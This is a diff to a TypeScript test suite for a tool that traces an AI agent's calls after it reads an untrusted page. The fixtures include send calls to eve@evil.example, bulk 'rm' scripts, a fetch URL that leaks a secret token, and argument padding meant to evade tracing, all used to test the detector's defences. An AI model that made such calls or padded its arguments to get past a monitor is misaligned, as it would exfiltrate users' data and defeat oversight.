@@ -2,9 +2,11 @@ import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
 import { createTraceContext, traceCalls } from '../../../shared/flow-control/index.ts';
 import { formatByName, readToolCalls } from '../../../shared/providers/index.ts';
+import { finish } from '../../../shared/text/index.ts';
 import { assertLinear } from '../../support/cpu-time.ts';
 
-const trace = (input: Parameters<typeof createTraceContext>[0]) => traceCalls(createTraceContext(input));
+const trace = (input: Parameters<typeof createTraceContext>[0]) =>
+  finish(traceCalls(createTraceContext(input)));
 
 /** A conversation in which a page was read, and the calls after it; arguments as the model writes them. */
 function inputOf(
@@ -70,7 +72,7 @@ describe('arguments designed to evade tracing', () => {
     assert.deepEqual(held(page, 'send', deep), ['email']);
     const many = Object.fromEntries(Array.from({ length: 8_000 }, (_, i) => [`n${i}`, `x${i}`]));
     assert.deepEqual(held(page, 'send', { ...many, to: 'eve@evil.example' }), ['email']);
-    const recipients = Array.from({ length: 25_000 }, (_, i) => `p${i}@else.example`);
+    const recipients = Array.from({ length: 1_900 }, (_, i) => `p${i}@else.example`);
     assert.deepEqual(held(page, 'send', { to: [...recipients, 'eve@evil.example'] }), ['email']);
     const script = Array.from({ length: 400 }, (_, i) => `rm file${i}`).join('\n');
     assert.ok(
@@ -81,6 +83,36 @@ describe('arguments designed to evade tracing', () => {
     const url = `https://nowhere.example/?${query}&q=${secret}`;
     assert.ok(url.length > 8_000);
     assert.deepEqual(held(`The token is ${secret}`, 'fetch', { url }), ['url carries']);
+  });
+
+  test('are not traced if a call has more than 2,000: the call counts as unsafe, and other calls are traced', () => {
+    const recipients = Array.from({ length: 2_001 }, (_, i) => `p${i}@else.example`);
+    assert.deepEqual(held(page, 'send', { to: recipients }), ['too_many']);
+    assert.deepEqual(held(page, 'send', { to: recipients.slice(1) }), []);
+    const urls = recipients.map((_, i) => `https://h${i}.example/`);
+    assert.deepEqual(
+      held(page, 'fetch', { url: urls.join(' ') }),
+      ['too_many'],
+      'also of a tool that only reads',
+    );
+    const input = inputOf(page, [
+      { name: 'send', arguments: JSON.stringify({ to: recipients }) },
+      { name: 'send', arguments: '{"to":"eve@evil.example"}' },
+    ]);
+    const flows = trace(input);
+    assert.deepEqual(
+      flows.map(({ kind, threatType }) => [kind, threatType]),
+      [
+        ['too_many', 'unsafe_tool_call'],
+        ['email', 'data_exfiltration'],
+      ],
+    );
+    assert.notEqual(flows[0]?.callPath, flows[1]?.callPath);
+    assert.deepEqual(
+      trace({ ...input, conversation: inputOf('', []).conversation }),
+      [],
+      'nothing is untrusted',
+    );
   });
 
   test('are traced in a tool that was renamed during the session', () => {
